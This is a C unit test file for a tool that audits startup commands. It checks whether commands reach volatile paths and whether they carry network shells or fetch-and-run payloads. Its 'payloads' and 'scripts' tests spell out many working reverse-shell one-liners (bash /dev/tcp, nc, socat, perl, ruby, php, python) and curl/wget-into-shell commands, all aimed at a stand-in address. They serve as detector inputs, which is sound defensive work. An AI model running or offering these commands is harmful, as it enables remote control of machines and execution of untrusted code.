/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test_command - is a command followed to every file that it would execute? */
#include "startup.h"

#define MISSING		"STARTUP_PROGRAM_MISSING"
#define VOLATILE	"STARTUP_PROGRAM_VOLATILE"
#define UNCLEAR		"STARTUP_COMMAND_UNCLEAR"
#define SHELL		"STARTUP_SHELL_NETWORK"
#define FETCH		"STARTUP_FETCH_AND_RUN"

static void
reaches(void **state)
{
	static const char *const commands[] = {
		"/tmp/x", "sh -c '/tmp/x'", "sh -c \"sh -c '/tmp/x a'\"", "A=b exec /tmp/x",
		"cd /tmp && ./x", "cd /tmp; sh x", "sh /tmp/x", ". /tmp/x", "true || /tmp/x &",
		"cat </dev/null | /tmp/x", "(cd / && { /tmp/x; })", "if true; then /tmp/x; fi",
		"X=/tmp; $X/x", "eval '/tmp/x'", "echo $(/tmp/x)", "sh </tmp/x",
		"find / -name a -exec /tmp/x {} +", "P=/usr/bin:/tmp; cat && /tmp//./x",
		"/usr/bin/../../tmp/x", "trap '/tmp/x' EXIT",
	};

	(void)state;
	for (size_t i = 0; i < sizeof commands / sizeof *commands; i++)
		if (!leads(commands[i], VOLATILE))
			fail_msg("%s\n%s", commands[i], said);
}

static void
does_not_reach(void **state)
{
	static const char *const commands[] = {
		"cat /tmp/x", "cat > /tmp/x", "echo /tmp/x", "test -e /tmp/x", "echo '; /tmp/x'",
		"cat a # ; /tmp/x", "sh -c 'cat \"/tmp/x\"'", "[ -x /opt/y ] && /opt/y",
		"command -v /opt/y >/dev/null && /opt/y", "f() { cat; }; f /tmp/x",
		"for i in /tmp/x; do cat $i; done", "case /tmp/x in /tmp/x) cat ;; esac",
		"[ $a -gt 90 ] && cat",
	};

	(void)state;
	for (size_t i = 0; i < sizeof commands / sizeof *commands; i++)
		if (!quiet(commands[i]))
			fail_msg("%s\n%s", commands[i], said);
}

static void
missing_and_unclear(void **state)
{
	(void)state;
	assert_true(leads("/opt/gone", MISSING));
	assert_true(leads("no-such-program", MISSING));
	assert_true(leads("$(cat /etc/x)", UNCLEAR));
	assert_true(leads("/usr/bin/c?t", UNCLEAR));
	assert_true(leads("$UNSET/x", UNCLEAR));
}

static void
nested_too_deep(void **state)
{
	char text[2048] = "cat";
	char more[2048];

	(void)state;
	for (int i = 0; i < 8; i++) {
		snprintf(more, sizeof more, "eval %s", text);
		snprintf(text, sizeof text, "%.2000s", more);
	}
	assert_true(leads(text, UNCLEAR));
}

static void
payloads(void **state)
{
	static const struct { const char *command, *finding; } all[] = {
		{ "sh -i >& /dev/tcp/192.0.2.1/9 0>&1", SHELL },
		{ "exec 5<>/dev/tcp/192.0.2.1/9; exec 0<&5 1>&5; sh", SHELL },
		{ "0<&196;exec 196<>/dev/tcp/192.0.2.1/9; sh <&196 >&196 2>&196", SHELL },
		{ "cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 9 >/tmp/f", SHELL },
		{ "nc 192.0.2.1 9 | sh", SHELL },
		{ "telnet 192.0.2.1 9 | sh | telnet 192.0.2.1 10", SHELL },
		{ "sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:9 >/tmp/s", SHELL },
		{ "ncat --exec /bin/bash 192.0.2.1 9", SHELL },
		{ "busybox nc 192.0.2.1 9 -e sh", SHELL },
		{ "socat tcp:192.0.2.1:9 exec:sh", SHELL },
		{ "perl -e 'use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,\">&S\");exec(\"sh\");'",
		    SHELL },
		{ "ruby -rsocket -e 'f=TCPSocket.open(\"192.0.2.1\",9).to_i;exec sprintf(\"sh <&\",f)'",
		    SHELL },
		{ "php -r '$s=fsockopen(\"192.0.2.1\",9);exec(\"sh <&3 >&3\");'", SHELL },
		{ "wget -qO- http://192.0.2.1/x | sudo -E bash -", FETCH },
		{ "sh -c \"$(curl -fsSL http://192.0.2.1/x)\"", FETCH },
		{ "echo aWQ= | base64 --decode | tee /tmp/a | sh", FETCH },
		{ "sh <<< $(echo aWQ= | base64 -d)", FETCH },
		{ "wget http://192.0.2.1/a.sh && sh a.sh", FETCH },
		{ "cd /var/cache; wget -q http://192.0.2.1/a; chmod 755 a", FETCH },
		{ "echo aWQ= | base64 -d > /var/x; . /var/x", FETCH },
		{ "openssl enc -d -aes-256-cbc -in /etc/x | sh", FETCH },
		{ "perl -e 'use MIME::Base64;eval(decode_base64(\"aWQ=\"))'", FETCH },
	};
	static const char *const near[] = {
		"exec 3<>/dev/tcp/localhost/80 && echo up", "nc -z host 22", "nc -l 9 > /var/x",
		"sh /etc/x | nc 10.0.0.1 9", "curl -o /var/cache/a.tgz http://h/a.tgz; tar xf a",
		"curl http://h/x | cat | python3 -m json.tool", "base64 -d a > b", "eval \"$(cat x)\"",
		"wget -O /var/cache/x http://h/x && chmod 644 /var/cache/x",
		"socat - EXEC:/usr/bin/cat", "echo hi | sh -c cat", "openssl s_client -connect h:443",
		"perl -e 'print \"curl | sh\"'", "curl http://h/x | perl -ne 'print'",
	};

	(void)state;
	for (size_t i = 0; i < sizeof all / sizeof *all; i++)
		if (!leads(all[i].command, all[i].finding))
			fail_msg("%s\n%s", all[i].command, said);
	for (size_t i = 0; i < sizeof near / sizeof *near; i++)
		if (leads(near[i], SHELL) || leads(near[i], FETCH))
			fail_msg("%s\n%s", near[i], said);
}

static void
scripts(void **state)
{
	(void)state;
	memory_file(&memory, "/opt/a", 0755, "#!/bin/sh\n\nsh /opt/b\n");
	memory_file(&memory, "/opt/b", 0755, "cat x\nsh -i >&/dev/tcp/192.0.2.1/9 0>&1\n");
	assert_true(leads("/opt/a", SHELL));
	assert_int_equal(times("\"path\":\"/opt/b\",\"line\":2"), 1);
	memory_file(&memory, "/opt/b", 0755, "#!/usr/bin/env python3\nimport socket,os\n"
	    "s=socket.socket()\nos.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')\n");
	assert_true(leads("/opt/a", SHELL));
	memory_file(&memory, "/opt/b", 0755, "#!/usr/bin/python3\nimport socket\nprint('x')\n");
	assert_false(leads("/opt/a", SHELL));
	/* A script that starts itself is read no further than the bounds say. */
	memory_file(&memory, "/opt/a", 0755, "#!/bin/sh\n/opt/a; /opt/a; /opt/a\n");
	look();
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(reaches, start), cmocka_unit_test_setup(does_not_reach, start),
		cmocka_unit_test_setup(missing_and_unclear, start),
		cmocka_unit_test_setup(nested_too_deep, start),
		cmocka_unit_test_setup(payloads, start), cmocka_unit_test_setup(scripts, start),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
